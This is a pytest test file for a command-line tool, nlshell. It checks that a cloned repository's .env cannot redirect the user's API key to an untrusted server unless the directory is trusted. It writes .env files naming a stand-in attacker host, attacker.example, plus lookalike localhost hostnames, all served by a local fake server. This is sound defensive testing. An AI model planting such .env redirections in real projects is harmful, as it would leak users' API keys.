"""A `.env` in the current directory cannot send your key to a stranger's server.

`cd` into a cloned repository whose `.env` says `OPENROUTER_BASE_URL=http://attacker/…` and run
`nlshell -p "list files"`: the key from the environment, keyring or credentials file must not go
there until the user runs `nlshell config trust` in that directory (direnv-style: the directory
and the URL are recorded in a 0600 file). The stranger's host is a made-up name reached through an
HTTP proxy that is the fake server on 127.0.0.1, so the request really leaves for "another host"
while nothing leaves this machine.
"""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from conftest import FAKE_KEY, REPO
from test_secrets import KEY_SOURCES, key_env

STRANGER = "http://attacker.example/api/v1"


@pytest.fixture
def via_proxy(fake_server):
    """Environment that routes plain-http requests for any host to the fake server."""
    return {"HTTP_PROXY": fake_server.root_url, "http_proxy": fake_server.root_url, "NO_PROXY": "", "no_proxy": ""}


def cloned_repo(url: str = STRANGER, key: str | None = None) -> Path:
    """The current directory as a cloned repository with its own .env."""
    lines = [f"OPENROUTER_BASE_URL={url}"] + ([f"OPENROUTER_API_KEY={key}"] if key else [])
    Path(".env").write_text("\n".join(lines) + "\n")
    return Path(".env").resolve()


def assert_refused(r, fake_server, dotenv: Path) -> None:
    assert (r.returncode, r.stdout) == (2, ""), r
    lines = r.stderr.splitlines()
    assert len(lines) == 1 and "Traceback" not in r.stderr, r
    assert str(dotenv) in lines[0] and "attacker.example" in lines[0], r
    assert "`nlshell config trust`" in lines[0] and "nothing was sent" in lines[0], r
    assert FAKE_KEY not in r.stderr
    assert fake_server.requests == []


@pytest.mark.parametrize("source", KEY_SOURCES[:1] + KEY_SOURCES[2:])  # env, keyring, credentials file
def test_a_key_from_elsewhere_is_not_sent_to_a_server_a_dotenv_chose(nlshell, fake_server, isolated_home, via_proxy,
                                                                      source):
    env, _allowed = key_env(source, STRANGER, isolated_home)
    env.pop("OPENROUTER_BASE_URL")  # the URL comes from the repository's .env only
    dotenv = cloned_repo()
    for args in (["-p", "list files"], ["--json", "list files"], ["--widget", "bash", "list files"],
                 ["explain", "ls"], ["models", "--refresh"], ["auth", "status"]):
        r = nlshell(*args, env={**env, **via_proxy})
        if args[0] == "auth":  # the key is shown masked first, then its details would be fetched
            assert r.returncode == 2 and "config trust" in r.stderr and fake_server.requests == [], r
            continue
        assert_refused(r, fake_server, dotenv)


def test_a_key_from_the_config_dirs_dotenv_is_not_sent_either(nlshell, fake_server, via_proxy):
    from nlshell import paths

    os.makedirs(paths.config_dir(), exist_ok=True)
    Path(paths.config_dir(), ".env").write_text(f"OPENROUTER_API_KEY={FAKE_KEY}\n")
    dotenv = cloned_repo()
    assert_refused(nlshell("-p", "list files", env=via_proxy), fake_server, dotenv)


def test_trusting_the_directory_lets_the_key_go_to_that_url_only(nlshell, fake_server, via_proxy, tmp_path):
    from nlshell import paths

    env = {"OPENROUTER_API_KEY": FAKE_KEY, **via_proxy}
    cloned_repo()
    trusted = nlshell("config", "trust")
    assert trusted.returncode == 0 and "attacker.example" in trusted.stderr, trusted
    record = Path(paths.trust_file())
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    assert json.loads(record.read_text())["trusted"] == [{"dir": os.path.realpath("."), "url": STRANGER}]

    r = nlshell("-p", "list files", env=env)
    assert (r.returncode, r.stdout) == (0, "ls -la\n"), r
    request = fake_server.chat_requests[0]
    assert request.path == "http://attacker.example/api/v1/chat/completions"  # it went to "that host"
    assert request.headers["Authorization"] == f"Bearer {FAKE_KEY}"

    fake_server.requests.clear()
    moved = cloned_repo("http://elsewhere.example/v1")  # the .env now names another server
    r = nlshell("-p", "list files again", env=env)
    assert r.returncode == 2 and str(moved) in r.stderr and fake_server.requests == [], r

    cloned_repo()
    assert nlshell("config", "untrust").returncode == 0
    assert_refused(nlshell("-p", "list files once more", env=env), fake_server, Path(".env").resolve())


def test_trust_is_per_directory(nlshell, fake_server, via_proxy, tmp_path):
    cloned_repo()
    assert nlshell("config", "trust").returncode == 0
    other = tmp_path / "other-clone"
    other.mkdir()
    (other / ".env").write_text(f"OPENROUTER_BASE_URL={STRANGER}\n")
    os.chdir(other)
    assert_refused(nlshell("-p", "list files", env={"OPENROUTER_API_KEY": FAKE_KEY, **via_proxy}), fake_server,
                   other / ".env")


def test_no_trust_is_needed_when_the_key_is_in_the_same_dotenv(nlshell, fake_server, via_proxy):
    cloned_repo(key=FAKE_KEY)
    r = nlshell("-p", "list files", env=via_proxy)
    assert (r.returncode, r.stdout) == (0, "ls -la\n"), r
    assert fake_server.chat_requests[0].headers["Authorization"] == f"Bearer {FAKE_KEY}"


def test_no_trust_is_needed_for_a_server_on_this_machine(nlshell, fake_server):
    for url in (fake_server.base_url, fake_server.base_url.replace("127.0.0.1", "localhost")):
        cloned_repo(url)
        r = nlshell("-p", f"list files at {url}", env={"OPENROUTER_API_KEY": FAKE_KEY})
        assert (r.returncode, r.stdout) == (0, "ls -la\n"), r
    assert all(req.headers["Authorization"] == f"Bearer {FAKE_KEY}" for req in fake_server.chat_requests)


def test_without_any_key_nothing_can_leak_and_the_dotenv_server_is_used(nlshell, fake_server, via_proxy):
    cloned_repo()
    r = nlshell("-p", "list files", env={**via_proxy, "PYTHON_KEYRING_BACKEND": "keyring.backends.fail.Keyring"})
    assert (r.returncode, r.stdout) == (0, "ls -la\n"), r
    assert "Authorization" not in fake_server.chat_requests[0].headers


@pytest.mark.parametrize(
    "url, dotenv_dir, needs_trust",
    [
        ("https://openrouter.ai/api/v1", "cwd", False),
        ("http://127.0.0.1:9/v1", "cwd", False),
        ("http://[::1]:9/v1", "cwd", False),
        ("http://127.0.0.1.attacker.example/v1", "cwd", True),
        ("http://localhost.attacker.example/v1", "cwd", True),
        ("http://192.168.1.5:11434/v1", "cwd", True),
        ("http://192.168.1.5:11434/v1", "config", False),  # the user's own .env
    ],
)
def test_which_urls_need_trust(monkeypatch, url, dotenv_dir, needs_trust):
    from nlshell import config, paths
    from nlshell.trust import UntrustedServerError, check_key_destination

    where = Path(os.getcwd()) if dotenv_dir == "cwd" else Path(paths.config_dir())
    where.mkdir(parents=True, exist_ok=True)
    (where / ".env").write_text(f"OPENROUTER_BASE_URL={url}\n")
    settings = config.load()
    if needs_trust:
        with pytest.raises(UntrustedServerError):
            check_key_destination(settings, "env OPENROUTER_API_KEY")
    else:
        check_key_destination(settings, "env OPENROUTER_API_KEY")


def test_config_trust_needs_a_dotenv_that_names_a_server(nlshell):
    r = nlshell("config", "trust")
    assert r.returncode == 2 and "no .env" in r.stderr, r
    Path(".env").write_text("OPENROUTER_MODEL=a/b\n")
    r = nlshell("config", "trust")
    assert r.returncode == 2 and "does not set OPENROUTER_BASE_URL" in r.stderr, r
    assert nlshell("config", "untrust").stderr.endswith("was not trusted\n")
    assert nlshell("config", "show", ".").returncode == 2


def test_config_trust_is_documented():
    readme = (REPO / "README.md").read_text()
    assert "nlshell config trust" in readme and "config untrust" in readme


def test_config_help_names_trust(nlshell):
    r = nlshell("config", "--help")
    assert "trust" in r.stdout and "untrust" in r.stdout


@pytest.mark.e2e
@pytest.mark.parametrize("line, expected", [("nlshell config t", "trust"), ("nlshell config u", "untrust"),
                                            ("nlshell config trust ", "")])
def test_bash_completes_trust_and_then_a_directory(line, expected):
    import shutil
    import subprocess

    from nlshell import shells

    if shutil.which("bash") is None:
        pytest.skip("bash is not installed")
    driver = 'eval "$COMPLETIONS"; COMP_LINE=$LINE; COMP_POINT=${#LINE}; _nlshell; printf "<<%s>>" "${COMPREPLY[*]}"'
    env = dict(os.environ, COMPLETIONS=shells.render_completions("bash"), LINE=line)
    proc = subprocess.run(["bash", "--norc", "-c", driver], capture_output=True, text=True, env=env, timeout=30)
    assert f"<<{expected}>>" in proc.stdout, proc  # (nothing offered: bash's -o default gives file names)


@pytest.mark.e2e
def test_fish_completes_trust_and_then_a_directory():
    import shutil
    import subprocess

    from nlshell import shells

    if shutil.which("fish") is None:
        pytest.skip("fish is not installed")
    Path("a-clone").mkdir()
    Path("a-file").write_text("")
    got = {}
    for line in ("nlshell config ", "nlshell config trust "):
        env = dict(os.environ, COMPLETIONS=shells.render_completions("fish"), LINE=line)
        proc = subprocess.run(["fish", "--no-config", "-c", 'echo $COMPLETIONS | source; complete -C"$LINE"'],
                              capture_output=True, text=True, env=env, timeout=30)
        got[line] = {row.split("\t")[0] for row in proc.stdout.splitlines()}
    assert got["nlshell config "] == {"show", "path", "trust", "untrust"}
    assert got["nlshell config trust "] == {"a-clone/"}
